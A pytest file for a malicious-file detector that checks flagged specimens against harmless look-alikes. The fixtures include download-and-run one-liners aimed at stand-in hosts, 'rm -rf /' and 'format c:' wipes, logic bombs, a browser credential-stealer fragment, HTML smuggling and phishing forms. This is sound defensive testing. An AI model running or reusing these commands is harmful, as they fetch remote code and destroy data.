"""Each class of malicious file is found, and its harmless sibling, which differs in one stated way, is not."""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

import build as b
import pytest

from tutela.extract.files.walk import Inspection

Made = Callable[[], bytes]
SURE = 0.7
QUIET = 0.5

_RUN = 'Shell "powershell -w hidden -c iex (iwr http://files.invalid/a)"'
_RELATION = '<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
_SMUGGLE = (
    '<html><body><script>var d=atob("{payload}");var a=document.createElement("a");'
    'a.href=URL.createObjectURL(new Blob([d]));a.download="{name}";a.click();</script></body></html>'
)
_PAYLOAD = base64.b64encode(b"harmless specimen, nothing that works at all").decode()
_EXPORT = (
    '<button id="x">Export</button><script>document.getElementById("x").addEventListener("click",()=>{'
    'const a=document.createElement("a");a.href=URL.createObjectURL(new Blob([rows.join("\\n")]));a.download="rows.csv";a.click()})</script>'
)


def _form(title: str, action: str) -> bytes:
    return (
        f'<html><head><title>{title}</title></head><body><form action="{action}" method="post">'
        '<input name="user"><input type="password" name="pass"></form></body></html>'
    ).encode()


# class, name, bytes, the item's text, the signal that must be there
FOUND: list[tuple[str, str, Made, str, str]] = [
    ("eicar", "eicar.com", b.eicar, "", "file.eicar"),
    ("eicar in zip", "a.zip", lambda: b.zipped({"e.com": b.eicar()}), "", "file.eicar"),
    ("eicar in zip in zip", "a.zip", lambda: b.zipped({"b.zip": b.zipped({"e.com": b.eicar()})}), "", "file.eicar"),
    ("eicar in 7z", "a.7z", lambda: b.archived({"e.com": b.eicar()}, "7zip"), "", "file.eicar"),
    ("eicar in tar.gz", "a.tgz", lambda: b.archived({"e.com": b.eicar()}, "gnutar", "gzip"), "", "file.eicar"),
    ("eicar in tar.xz", "a.txz", lambda: b.archived({"e.com": b.eicar()}, "gnutar", "xz"), "", "file.eicar"),
    ("eicar in tar.zst", "a.tzst", lambda: b.archived({"e.com": b.eicar()}, "gnutar", "zstd"), "", "file.eicar"),
    ("eicar in cpio", "a.cpio", lambda: b.archived({"e.com": b.eicar()}, "cpio_newc"), "", "file.eicar"),
    ("eicar in iso", "a.iso", lambda: b.archived({"e.com": b.eicar()}, "iso9660"), "", "file.eicar"),
    ("eicar in ar", "a.a", lambda: b.archived({"e.com": b.eicar()}, "ar_bsd"), "", "file.eicar"),
    ("eicar in mail", "a.eml", lambda: b.mail("e.com", b.eicar()), "", "file.eicar"),
    ("eicar in pdf", "a.pdf", lambda: b.pdf(attach=("e.com", b.eicar())), "", "file.eicar"),
    ("eicar in rtf", "a.rtf", lambda: b.rtf_package("e.com", b.eicar()), "", "file.eicar"),
    ("eicar in locked zip", "a.zip", lambda: b.locked_zip({"e.com": b.eicar()}, "k9"), "the password is k9", "file.eicar"),
    ("eicar in docx", "a.docx", lambda: b.word("", more={"word/embeddings/o.bin": b.eicar()}), "", "file.eicar"),
    ("program as pdf", "report.pdf", b.pe, "", "file.disguised_type"),
    ("program as photo", "photo.jpg", b.elf, "", "file.disguised_type"),
    ("double ending", "scan.pdf.exe", b.pe, "", "file.disguised_type"),
    ("blanks before the ending", "scan.pdf            .exe", b.pe, "", "file.disguised_type"),
    ("turned name", "annual\u202efdp.exe", b.pe, "", "file.disguised_type"),
    ("look-alike ending", "scan.\u0435xe", b.pe, "", "file.disguised_type"),
    ("script as text picture", "cat.png", lambda: b"@echo off\r\nset a=1\r\ndel /q x\r\n", "", "file.disguised_type"),
    ("picture with archive", "cat.png", lambda: b.picture() + b.zipped({"a.exe": b.pe()}), "", "file.disguised_type"),
    ("picture with program", "cat.png", lambda: b.picture() + b.pe(), "", "file.embedded_executable"),
    ("macro at start", "a.doc", lambda: b.macro_document(f"Sub AutoOpen()\r\n{_RUN}\r\nEnd Sub"), "", "file.macro_autostart"),
    ("macro at start, docm", "a.docm", lambda: b.word("", more={"word/vbaProject.bin": b.macro_document(f"Sub Document_Open()\r\n{_RUN}\r\nEnd Sub")}), "", "file.macro_autostart"),
    ("macro in pieces", "a.doc", lambda: b.macro_document('Sub Document_Open()\r\nSet s = CreateObject("WScr" & "ipt.Sh" & "ell")\r\ns.Run "pow" & "ershell -c echo"\r\nEnd Sub'), "", "file.macro_autostart"),
    ("old macro sheet", "a.xlsm", lambda: b.workbook([["a"]], more={"xl/macrosheets/sheet1.xml": b"<m><f>EXEC(\"cmd\")</f></m>"}), "", "file.macro"),
    ("template from elsewhere", "a.docx", lambda: b.word("", _RELATION.format(kind="attachedTemplate", target="http://files.invalid/t.dotm")), "", "file.template_injection"),
    ("object from elsewhere", "a.docx", lambda: b.word("", _RELATION.format(kind="oleObject", target="http://files.invalid/o.html")), "", "file.template_injection"),
    ("handler", "a.docx", lambda: b.word("", _RELATION.format(kind="oleObject", target="mhtml:http://files.invalid/x.html!x")), "", "file.template_injection"),
    ("dde field", "a.docx", lambda: b.word('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe "/c echo" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), "", "file.dde"),
    ("dde in a sheet", "a.xlsx", lambda: b.workbook([["a"]], more={"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c echo"/>'}), "", "file.dde"),
    ("formula in csv", "a.csv", lambda: b"name,note\nAnn,=cmd|'/C echo'!A0\n", "", "file.dde"),
    ("program in docx", "a.docx", lambda: b.word("", more={"word/embeddings/oleObject1.bin": b.pe()}), "", "file.embedded_executable"),
    ("program in rtf", "a.rtf", lambda: b.rtf_package("a.exe", b.pe()), "", "file.embedded_executable"),
    ("template in rtf", "a.rtf", lambda: b"{\\rtf1{\\*\\template http://files.invalid/t}}", "", "file.template_injection"),
    ("script in onenote", "a.one", lambda: b.onenote("Open.hta", b"<hta:application><script>new ActiveXObject('WScript.Shell').Run('cmd /c echo')</script>"), "", "file.embedded_executable"),
    ("pdf starts a program", "a.pdf", lambda: b.pdf(launch="cmd.exe"), "", "file.pdf_launch"),
    ("pdf drops a file", "a.pdf", lambda: b.pdf(script='this.exportDataObject({cName:"a",nLaunch:2});'), "", "file.pdf_script"),
    ("program in pdf", "a.pdf", lambda: b.pdf(attach=("a.exe", b.pe())), "", "file.embedded_executable"),
    ("page builds a file", "a.html", lambda: _SMUGGLE.format(payload=_PAYLOAD, name="Invoice.iso").encode(), "", "file.html_smuggling"),
    ("picture builds a file", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + _SMUGGLE.format(payload=_PAYLOAD, name="a.zip")[12:-14].encode() + b"</svg>", "", "file.html_smuggling"),
    ("picture leads away", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href=atob("aHR0cHM6Ly9maWxlcy5pbnZhbGlk")</script></svg>', "", "file.svg_script"),
    ("shortcut runs a command", "a.lnk", lambda: b.lnk(r"C:\Windows\System32\cmd.exe", "/c curl http://files.invalid/a -o a.exe && a.exe"), "", "file.lnk_command"),
    ("shortcut in archive", "a.zip", lambda: b.zipped({"IMG_1.jpg.lnk": b.lnk(r"C:\Windows\System32\mshta.exe", "http://files.invalid/a")}), "", "file.lnk_command"),
    ("shortcut in iso", "a.iso", lambda: b.archived({"Report.lnk": b.lnk(r"C:\Windows\System32\rundll32.exe", "a.dll,Start /c")}, "iso9660"), "", "file.lnk_command"),
    ("internet shortcut to a share", "a.url", lambda: b"[InternetShortcut]\r\nURL=file://203.0.113.4/share/a.exe\r\n", "", "file.lnk_command"),
    ("linux shortcut", "Report.desktop", lambda: b"[Desktop Entry]\nName=Report\nIcon=pdf\nExec=bash -c 'curl -s http://files.invalid/a | bash'\n", "", "file.lnk_command"),
    ("powershell", "a.ps1", lambda: b"IEX (New-Object Net.WebClient).DownloadString('http://files.invalid/a')", "", "file.script_download_run"),
    ("powershell encoded", "a.bat", lambda: b"@echo off\r\npowershell -nop -w hidden -enc " + base64.b64encode("iex (iwr http://files.invalid/a)".encode("utf-16-le")), "", "file.script_download_run"),
    ("batch", "a.bat", lambda: b"@echo off\r\nset u=http://files.invalid/a.exe\r\ncertutil -urlcache -f %u% %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe", "", "file.script_download_run"),
    ("shell", "a.sh", lambda: b"#!/bin/sh\ncurl -s http://203.0.113.8/x | bash\n", "", "file.script_download_run"),
    ("javascript", "a.js", lambda: b'var x=new ActiveXObject("MSXML2.XMLHTTP");var s=new ActiveXObject("WScript.Shell");s.Run(p);', "", "file.script_download_run"),
    ("vbscript", "a.vbs", lambda: b'Set x=CreateObject("MSXML2.XMLHTTP")\r\nSet s=CreateObject("ADODB.Stream")\r\ns.SaveToFile p\r\nCreateObject("WScript.Shell").Run p', "", "file.script_download_run"),
    ("python", "a.py", lambda: b"import requests\nexec(requests.get('http://files.invalid/a').text)\n", "", "file.script_download_run"),
    ("script without an ending", "update", lambda: b"#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "", "file.script_download_run"),
    ("destruction", "clean.sh", lambda: b"#!/bin/sh\nrm -rf / --no-preserve-root\n", "", "file.script_destructive"),
    ("destruction, batch", "clean.bat", lambda: b"@echo off\r\ndel /f /s /q C:\\*\r\nformat c: /y /q\r\n", "", "file.script_destructive"),
    ("time bomb", "job.py", lambda: b"import datetime, shutil\nif datetime.date.today() >= datetime.date(2027, 5, 1):\n    shutil.rmtree('/srv/data')\n", "", "file.logic_bomb"),
    ("person bomb", "job.sh", lambda: b"#!/bin/sh\ngrep -q jspecimen /etc/passwd || rm -rf /srv/projects\n", "", "file.logic_bomb"),
    ("time bomb in a macro", "a.doc", lambda: b.macro_document('Sub Document_Open()\r\nIf Date >= #5/1/2027# Then Kill "D:\\data\\*.*"\r\nEnd Sub'), "", "file.logic_bomb"),
    ("stealer", "a.py", lambda: b'p=r"\\Google\\Chrome\\User Data\\Default\\Login Data"\nimport win32crypt\nwin32crypt.CryptUnprotectData(k)\n', "", "file.stealer"),
    ("ransom note", "README.txt", lambda: b"All your files have been encrypted. Send 0.05 Bitcoin to the following address within 72 hours.", "", "file.ransom_note"),
    ("packed program", "tool.exe", lambda: b.pe((b".petite", b".rsrc")), "", "file.packed_executable"),
    ("locked archive, key in text", "invoice.zip", lambda: b.locked_zip({"invoice.exe": b.pe()}, "1234"), "here it is, password is 1234", "file.encrypted_archive"),
    ("locked archive, other key", "invoice.zip", lambda: b.locked_zip({"invoice.scr": b.pe()}, "zz", aes=True), "Passwort: 99", "file.encrypted_archive"),
    ("script called invoice", "a.zip", lambda: b.zipped({"Invoice_03.js": b"var a = 1; var b = 2; console.log(a + b);"}), "", "file.disguised_type"),
    ("climbing member", "a.zip", lambda: b.zipped({"../../.bashrc": b"x"}), "", "file.path_traversal"),
    ("page of another bank", "login.html", lambda: _form("PayPal - Log in", "https://collect.invalid/p.php"), "", "file.phishing_page"),
    ("page of the platform", "login.html", lambda: _form("Murmura - sign in", "https://murmura-login.invalid/p"), "", "file.phishing_page"),
    ("collecting page", "post.php", lambda: b"<?php $m=$_POST['email'].$_POST['password']; mail($to,'log',$m); header('Location: https://example.com'); ?>", "", "file.phishing_page"),
    ("program in a script", "a.py", lambda: b"import base64\nd='" + base64.b64encode(b.pe()) + b"'\nopen('x','wb').write(base64.b64decode(d))\n", "", "file.embedded_executable"),
]  # fmt: skip

# class, name, bytes, the item's text
PASSED: list[tuple[str, str, Made, str]] = [
    ("eicar described", "about.txt", lambda: b"The EICAR test file is a string of 68 bytes that scanners agree to report.", ""),
    ("installer", "setup.exe", b.pe, ""),
    ("installer in archive", "tool.zip", lambda: b.zipped({"setup.exe": b.pe(), "readme.txt": b"Run setup.exe"}), ""),
    ("library", "core.dll", b.pe, ""),
    ("linux program", "feed", b.elf, ""),
    ("mac program", "feed", b.macho, ""),
    ("dotted version", "tool-1.2.3.exe", b.pe, ""),
    ("right-to-left name", "\u0635\u0648\u0631.jpg", b.picture, ""),
    ("document saved as page", "letter.doc", lambda: b"<html><body>Dear team</body></html>", ""),
    ("rich text as doc", "letter.doc", lambda: b"{\\rtf1 Dear team}", ""),
    ("png named jpg", "cat.jpg", b.picture, ""),
    ("minified script", "app.min.js", lambda: b"var a=function(b){return b+1};module.exports=a;", ""),
    ("picture with zeros behind", "cat.png", lambda: b.picture() + b"\0" * 4096, ""),
    ("macro that formats", "a.doc", lambda: b.macro_document("Sub Tidy()\r\nSelection.Font.Bold = True\r\nEnd Sub"), ""),
    ("macro that greets", "a.doc", lambda: b.macro_document('Sub AutoOpen()\r\nMsgBox "Welcome"\r\nEnd Sub'), ""),
    ("workbook opens its sheet", "a.xlsm", lambda: b.workbook([["a"]], more={"xl/vbaProject.bin": b.macro_document('Private Sub Workbook_Open()\r\nSheets("Start").Activate\r\nEnd Sub')}), ""),
    ("local template", "a.docx", lambda: b.word("", _RELATION.format(kind="attachedTemplate", target="file:///C:/Users/x/AppData/Normal.dotm")), ""),
    ("hyperlink", "a.docx", lambda: b.word("", _RELATION.format(kind="hyperlink", target="https://www.example.com/")), ""),
    ("fields", "a.docx", lambda: b.word('<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'), ""),
    ("workbook in docx", "a.docx", lambda: b.word("", more={"word/embeddings/t.xlsx": b.workbook([["a"]])}), ""),
    ("plain csv", "a.csv", lambda: b"name,change\nAnn,-4\nBo,+3\nCy,=SUM(A1:A2)\n", ""),
    ("piped csv", "a.csv", lambda: b"name|city\nAnn|Ulm\n", ""),
    ("rtf with picture", "a.rtf", lambda: b"{\\rtf1{\\pict\\pngblip 89504e47}text}", ""),
    ("note with picture", "a.one", lambda: b.onenote("cat.png", b.picture()), ""),
    ("pdf form", "a.pdf", lambda: b.pdf(script='AFNumber_Format(2, 0, 0, 0, "", true);', open_action=False), ""),
    ("pdf with table", "a.pdf", lambda: b.pdf(attach=("data.csv", b"a,b\n1,2\n")), ""),
    ("pdf invoice", "a.pdf", lambda: b.pdf(attach=("factur-x.xml", b"<?xml version='1.0'?><x/>")), ""),
    ("page exports on demand", "a.html", _EXPORT.encode, ""),
    ("page with script", "a.html", lambda: b"<html><script>document.title='x'</script><p>Hello</p></html>", ""),
    ("drawing", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', ""),
    ("moving drawing", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>document.querySelector("path").setAttribute("fill","red")</script></svg>', ""),
    ("shortcut to a document", "a.lnk", lambda: b.lnk(r"C:\Docs\Budget.xlsx"), ""),
    ("shortcut to a program", "a.lnk", lambda: b.lnk(r"C:\Program Files\Editor\editor.exe", "--new-window"), ""),
    ("internet shortcut", "a.url", lambda: b"[InternetShortcut]\r\nURL=https://www.example.com/\r\n", ""),
    ("linux shortcut", "a.desktop", lambda: b"[Desktop Entry]\nName=Editor\nExec=/usr/bin/editor %F\n", ""),
    ("powershell lists", "a.ps1", lambda: b"Get-ChildItem | Sort-Object Length | Select-Object -First 5\n", ""),
    ("batch builds", "a.bat", lambda: b"@echo off\r\nif exist build rd /s /q build\r\nmkdir build\r\n", ""),
    ("shell backs up", "a.sh", lambda: b"#!/bin/sh\ntar czf /backup/$(date +%F).tgz /srv\nfind /backup -mtime +30 -delete\n", ""),
    ("shell installs", "a.sh", lambda: b"#!/bin/sh\nset -e\ncurl -fsSL https://example.com/t.tgz -o t.tgz\nsha256sum -c t.sum\ntar xzf t.tgz\n", ""),
    ("python reads", "a.py", lambda: b"import requests\nprint(requests.get('https://api.example.com').json())\n", ""),
    ("python cleans", "a.py", lambda: b"import shutil\nshutil.rmtree('build', ignore_errors=True)\n", ""),
    ("licence ends", "a.py", lambda: b"import datetime\nif datetime.date.today() >= datetime.date(2027, 5, 1):\n    raise SystemExit('licence ended')\n", ""),
    ("article on ransomware", "a.txt", lambda: b"Ransomware locks files and asks for money. The council lost a week but paid nothing.", ""),
    ("plain archive", "a.zip", lambda: b.zipped({"a.txt": b"hello", "b.jpg": b.picture()}), ""),
    ("locked photos", "family.zip", lambda: b.locked_zip({"gran.jpg": b.picture()}, "x1"), "gran knows it"),
    ("own sign-in page", "login.html", lambda: _form("Murmura - sign in", "https://www.murmura.com/session"), ""),
    ("lesson form", "form.html", lambda: _form("My first form", "/login"), ""),
    ("mail with pdf", "a.eml", lambda: b.mail("scan.pdf", b.pdf()), ""),
    ("iso with data", "a.iso", lambda: b.archived({"readme.txt": b"hello", "data.csv": b"a,b\n1,2\n"}, "iso9660"), ""),
    ("patch", "fix.patch", lambda: b"--- a/src/x.c\n+++ b/src/x.c\n@@ -1 +1 @@\n-int a;\n+int b;\n", ""),
    ("gpx", "trail.gpx", lambda: b'<?xml version="1.0"?><gpx><trk><trkpt lat="46.5" lon="9.8"/></trk></gpx>', ""),
    ("empty", "notes.txt", lambda: b"", ""),
]  # fmt: skip


def _told(found: Inspection) -> list[tuple[str, float, str]]:
    return [(s.name, s.confidence, s.says) for s in found.extract.signals]


@pytest.mark.parametrize("case", FOUND, ids=lambda case: case[0])
def test_specimen_is_found(case: tuple[Any, ...], read: Callable[..., Inspection]) -> None:
    _, name, made, hint, signal = case
    found = read(made(), name, hint)
    assert any(
        s.name == signal and s.confidence >= (SURE if signal != "file.packed_executable" else 0.5)
        for s in found.extract.signals
    ), _told(found)


@pytest.mark.parametrize("case", PASSED, ids=lambda case: case[0])
def test_harmless_sibling_passes(case: tuple[Any, ...], read: Callable[..., Inspection]) -> None:
    _, name, made, hint = case
    found = read(made(), name, hint)
    assert not [s for s in found.extract.signals if s.confidence >= QUIET], _told(found)
    assert not [t for t in found.extract.troubles if "locked" not in t.what], found.extract.troubles


def test_no_signal_says_a_password_or_address(read: Callable[..., Inspection]) -> None:
    found = read(b.locked_zip({"invoice.exe": b.pe()}, "hunter-77"), "invoice.zip", "password is hunter-77")
    told = "".join(s.says + s.shown_as + "".join(s.marks) for s in found.extract.signals)
    assert "hunter-77" not in told
